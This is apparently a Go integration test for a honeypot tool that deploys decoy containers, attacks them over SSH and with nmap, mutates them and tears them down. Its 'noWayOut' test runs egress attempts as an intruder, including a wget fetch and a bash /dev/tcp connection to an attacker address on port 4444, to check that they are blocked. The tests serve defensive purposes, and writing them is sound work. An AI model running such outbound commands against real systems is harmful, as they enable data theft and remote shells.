package lab

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/decnet/decnet/internal/daemontest"
	"github.com/decnet/decnet/internal/enginetest"
)

// command runs decnetd to its end, which must be a success, and returns what it prints on
// standard output.
func command(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command(binaries.decnetd, args...)
	var errs strings.Builder
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("decnetd %s: %v\n%s%s", strings.Join(args, " "), err, out, errs.String())
	}
	return string(out)
}

// host is what the host of the engine has of links, routes, networks and containers.
func host(t *testing.T, engine *enginetest.Engine) string {
	t.Helper()
	var all strings.Builder
	for _, args := range []string{"-br -4 addr", "-4 route show table all", "rule", "neigh show proxy"} {
		out, err := exec.Command("ip", strings.Fields(args)...).CombinedOutput()
		if err != nil {
			t.Fatalf("ip %s: %v\n%s", args, err, out)
		}
		all.Write(out)
	}
	links, err := net.Interfaces()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range links {
		fmt.Fprintln(&all, l.Index, l.Name, l.HardwareAddr)
	}
	all.WriteString(engine.Docker(t, "ps", "-a", "--format", "{{.Names}}"))
	all.WriteString(engine.Docker(t, "network", "ls", "--format", "{{.Name}}"))
	all.WriteString(engine.Docker(t, "volume", "ls", "--format", "{{.Name}}"))
	return all.String()
}

// noWayOut has an intruder who is root in the real sshd of gate reach out, while the LAN is
// watched.
func noWayOut(t *testing.T, lan enginetest.LAN, d *daemontest.Daemon) {
	packets := lan.Capture(t, "src host "+gate+" and not tcp src port 22", gate)
	out := lan.Attack(t, "sshpass", "-p", "hunter22", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "root@"+gate,
		`exec 2>/dev/null
timeout 3 wget -q -t 1 -O - http://192.0.2.80/
timeout 3 bash -c 'echo out > /dev/tcp/`+enginetest.AttackerAddr+`/4444'
echo out > /dev/udp/192.0.2.53/53 && echo sent
ping -n -c 1 -W 1 192.0.2.1
id -u`)
	if !strings.Contains(out, "sent\n") || !strings.Contains(out, "1 packets transmitted, 0 received, 100% packet loss") || !strings.HasSuffix(out, "\n0\n") {
		t.Fatalf("the intruder sees %q", out)
	}
	for _, want := range []string{
		"protocol:tcp dst_ip:192.0.2.80 dst_port:80", "protocol:tcp dst_port:4444 dst_ip:" + enginetest.AttackerAddr,
		"protocol:udp dst_ip:192.0.2.53 dst_port:53", "protocol:icmp dst_ip:192.0.2.1",
	} {
		daemontest.WaitFor(t, want, func() bool { return len(d.Logs(t, "event:egress_blocked decky:gate "+want)) > 0 })
	}
	if left := packets(); len(left) > 0 {
		t.Errorf("this left:\n%s", strings.Join(left, "\n"))
	}
}

// collect runs decnetd collect alone, which keeps the file that an intruder leaves in a real
// daemon.
func collect(t *testing.T, lan enginetest.LAN, dir string) {
	cmd := exec.Command(binaries.decnetd, "collect", "--data", dir)
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := errors.Join(cmd.Process.Signal(syscall.SIGTERM), cmd.Wait()); err != nil {
			t.Errorf("decnetd collect: %v", err)
		}
	}()
	for lines := bufio.NewScanner(stdout); lines.Scan() && lines.Text() != "decnetd: ready"; {
	}
	var found []byte
	n := 0
	daemontest.WaitFor(t, "the file that ssh dropped while decnetd collect ran", func() bool {
		// The container may not be watched yet.
		n++
		lan.Attack(t, "sshpass", "-p", "hunter22", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "PreferredAuthentications=password", "root@"+gate, fmt.Sprintf("echo collected %d > /tmp/collected", n))
		records, err := os.ReadFile(filepath.Join(dir, "decnet.json"))
		if err != nil {
			t.Fatal(err)
		}
		for line := range bytes.Lines(records) {
			if bytes.Contains(line, []byte(`"file_captured"`)) && bytes.Contains(line, []byte("/tmp/collected")) {
				found = line
			}
		}
		return found != nil
	})
	var record struct {
		Decky    string
		Attacker string `json:"attacker_ip"`
		Fields   map[string]string
	}
	if err := json.Unmarshal(found, &record); err != nil || record.Decky != "gate" || record.Attacker != enginetest.AttackerAddr {
		t.Errorf("%v: %s", err, found)
	}
	content, err := os.ReadFile(filepath.Join(dir, "artifacts", "gate", "ssh", record.Fields["stored_as"]))
	if err != nil || !strings.HasPrefix(string(content), "collected ") {
		t.Errorf("kept is %q, %v", content, err)
	}
}

// TestWithEngine attacks five deckies in containers, changes them while they run, and takes
// them down.
func TestWithEngine(t *testing.T) {
	engine := enginetest.Start(t)
	engine.ImportBase(t)
	lan := enginetest.NewLAN(t)
	before := host(t, engine)
	t.Setenv("DOCKER_HOST", engine.Host)

	real := fmt.Sprintf(fiveDeckies, "daemon = real")
	dir := t.TempDir()
	d := daemontest.Start(t, binaries.decnetd, dir, "--runtime", "docker", "--config", writeINI(t, real))
	d.LogIn(t)
	attack(t, lan)
	found(t, d)
	macs := make(map[string]bool)
	for _, addr := range []string{gate, web, files, mail, data} {
		macs[macOf(t, lan, addr)] = true
	}
	if len(macs) != 5 {
		t.Errorf("the attacker sees the hardware addresses %v", macs)
	}

	t.Run("no way out", func(t *testing.T) { noWayOut(t, lan, d) })
	t.Run("mutate", func(t *testing.T) {
		command(t, "mutate", "--data", dir, "--decky", "data")
		daemontest.WaitFor(t, "decky_mutated", func() bool { return len(d.Logs(t, "event:decky_mutated decky:data")) == 1 })
	})
	t.Run("add and remove", func(t *testing.T) {
		changed := strings.Replace(real, "[mail]\nip = 10.99.0.14", "[post]\nip = 10.99.0.16", 1)
		command(t, "deploy", "--data", dir, "--config", writeINI(t, changed))
		if out := lan.Attack(t, "nmap", "-Pn", "-n", "-sS", "-p", "25", "10.99.0.16"); !strings.Contains(out, "25/tcp open") {
			t.Errorf("the new decky:\n%s", out)
		}
		if out := lan.Attack(t, "nmap", "-n", "-sn", mail); !strings.Contains(out, "0 hosts up") {
			t.Errorf("the decky that is gone:\n%s", out)
		}
		var deckies []struct{ Name string }
		if err := d.Call(t.Context(), "GET", "/deckies", nil, &deckies); err != nil {
			t.Fatal(err)
		}
		if !slices.ContainsFunc(deckies, func(k struct{ Name string }) bool { return k.Name == "post" }) || len(deckies) != 5 {
			t.Errorf("the API lists %v", deckies)
		}
	})
	t.Run("status", func(t *testing.T) {
		out := command(t, "status", "--data", dir, "--json")
		if !json.Valid([]byte(out)) || strings.Count(out, `"state":"up"`) < 5 && strings.Count(out, `"state": "up"`) < 5 {
			t.Errorf("status: %s", out)
		}
	})
	t.Run("collect", func(t *testing.T) {
		d.Stop(t)
		collect(t, lan, dir)
	})
	t.Run("teardown", func(t *testing.T) {
		command(t, "teardown", "--data", dir, "--all")
		daemontest.WaitFor(t, "the host as it was before", func() bool { return host(t, engine) == before })
		if left, err := os.ReadDir("/run/netns"); err != nil || len(left) != 1 {
			t.Errorf("namespaces: %v %v", left, err)
		}
	})
}
